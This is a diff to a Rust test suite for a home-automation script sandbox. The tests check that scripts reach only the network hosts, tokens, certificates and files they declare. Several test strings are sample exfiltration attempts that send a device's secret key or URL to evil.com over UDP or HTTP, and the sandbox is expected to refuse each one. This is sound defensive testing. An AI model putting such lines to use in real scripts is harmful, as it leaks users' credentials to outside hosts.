@@ -33,6 +33,8 @@ fn declared_host(files: &[(&str, &str)], allow: &[&str]) -> (Host, Asked, tempfi
         targets: json!({
             "light": {
                 "porch": {"driver": "wled", "url": "http://10.0.0.5"},
+                "strip": {"driver": "lifx", "host": "10.0.0.8", "key": {"$secret": "light.strip.key"}},
+                "yard": {"driver": "wled", "url": "https://10.0.0.7", "tls": "yard", "oauth": "yard"},
                 "hall": {"driver": "hue", "url": "https://10.0.0.2", "key": {"$secret": "light.hall.key"}, "id": "abc"},
             },
             "message": {
@@ -150,6 +152,11 @@ fn nothing_undeclared_is_reached_by_any_route() {
         "file::read(\"a\" + \".txt\");",
         "command::start(\"x\" + \"y\");",
         "command::run(\"x\" + \"y\", #{ a: 1 });",
+        "net::udp(\"lamp\" + \".lan\", 56700, \"x\");",
+        "net::tcp(\"lamp.lan\", 80, \"x\");",
+        "net::wake(\"a4:bb:6d:00:00:01\");",
+        "net::ask_udp(\"lamp\" + \".lan\", 56700, \"x\");",
+        "net::ask_tcp(\"lamp\" + \".lan\", 80, \"x\");",
         "emit(\"a.\" + \"c\", #{});",
         "state::set(\"other.\" + \"x\", 1);",
         "state::add(\"other.\" + \"x\", 1);",
@@ -216,6 +223,28 @@ on(\"**\", |event| {
 }
 
 #[test]
+fn bytes_go_to_declared_hosts_and_to_the_targets_own() {
+    let source = "//! needs: event **, net lamp.lan:56700, net *.iot, light strip
+//! needs: net 255.255.255.255:9
+on(\"**\", |event| {
+    net::udp(\"lamp.lan\", 56700, blob(2, 7));
+    net::tcp(\"Relay.IOT\", 6722, \"11\");
+    net::udp(\"10.0.0.8\", 56700, \"x\" + target(\"light\", \"strip\").key);
+    net::wake(\"a4:bb:6d:00:00:01\");
+    net::udp(\"lamp\" + \".lan\", 56701, \"x\");
+});";
+    let (run, _) = tried(&[], &[], source).unwrap_or_else(|e| panic!("{e}"));
+    let refusal = refused(&run.outcome).unwrap_or_default().to_owned();
+    assert!(
+        refusal.contains("`net lamp.lan:56701`"),
+        "{:?}",
+        run.outcome
+    );
+    assert_eq!(run.actions.len(), 4);
+    assert_eq!(run.actions[0].args["payload"], json!({"$bytes": "Bwc="}));
+}
+
+#[test]
 fn a_mistake_in_plain_sight_has_a_caret_and_the_line_to_add() {
     let source = "//! needs: event **\non(\"**\", |event| {\n    http::send(\"http://gate.lan:8080/open\");\n});";
     let text = tried(&[], &[], source).unwrap_err();
@@ -241,12 +270,14 @@ fn a_targets_secret_goes_to_the_target_and_nowhere_else() {
         "http::get(target(\"light\", \"hall\").key + \"@evil.com/\");",
         "http::get(target(\"light\", \"hall\").key);",
         "command::run(\"backup\", target(\"light\", \"hall\").key);",
+        "net::udp(\"evil.com\", 9, target(\"light\", \"hall\").key);",
+        "net::udp(\"10.0.0.2\", 443, target(\"light\", \"hall\").key);",
         "http::send(\"http://evil.com/\", #{ body: target(\"message\", \"office\").url });",
         "http::send(target(\"message\", \"office\").url + \".evil.com/\");",
         "http::send(target(\"message\", \"office\").url, #{ body: target(\"light\", \"hall\").key });",
         "http::send(\"http://evil.com/\", #{ body: key });",
     ];
-    let header = "//! needs: event **, http evil.com, light *, message office, command backup\nlet key = setting(\"key\", \"\");";
+    let header = "//! needs: event **, http evil.com, net *, light *, message office, command backup\nlet key = setting(\"key\", \"\");";
     for body in steals {
         let source = format!("{header}\non(\"**\", |event| {{ {body} }});");
         let (run, asked) = tried(&[], &[], &source).unwrap_or_else(|e| panic!("{body}: {e}"));
@@ -267,6 +298,30 @@ on(\"**\", |event| {
 });";
     let (run, _) = tried(&[], &[], honest).unwrap_or_else(|e| panic!("{e}"));
     assert_eq!(ok(run).actions.len(), 3);
+}
+
+#[test]
+fn tokens_certificates_and_files_of_a_request_have_to_be_declared() {
+    let header = "//! needs: event **, http evil.com, light *, message office";
+    for body in [
+        "http::send(\"http://evil.com/\", #{ auth: #{ oauth: \"google\" } });",
+        "http::get(\"http://evil.com/\", #{ auth: #{ oauth: \"yard\" } });",
+        "http::get(\"https://evil.com/\", #{ tls: \"yard\" });",
+        "http::get(\"https://10.0.0.2/\", #{ tls: \"yard\" });",
+        "http::get(\"http://evil.com/\", #{ save: \"a.jpg\" });",
+    ] {
+        let source = format!("{header}\non(\"**\", |event| {{ {body} }});");
+        let (run, asked) = tried(&[], &[], &source).unwrap_or_else(|e| panic!("{body}: {e}"));
+        assert!(refused(&run.outcome).is_some(), "{body}: {:?}", run.outcome);
+        assert!(run.actions.is_empty() && asked.is_empty(), "{body}");
+    }
+    let honest = "//! needs: event **, light yard, http evil.com, oauth goo*, tls bridge, file *.jpg
+on(\"**\", |event| {
+    http::send(\"https://10.0.0.7/\", #{ auth: #{ oauth: \"yard\" }, tls: \"yard\" });
+    http::send(\"https://evil.com/\", #{ auth: #{ oauth: \"google\" }, tls: \"bridge\", save: \"a.jpg\" });
+});";
+    let (run, _) = tried(&[], &[], honest).unwrap_or_else(|e| panic!("{e}"));
+    assert_eq!(ok(run).actions.len(), 2);
 }
 
 /// What is wrong with a script that hears this under this header; nothing when it loads.
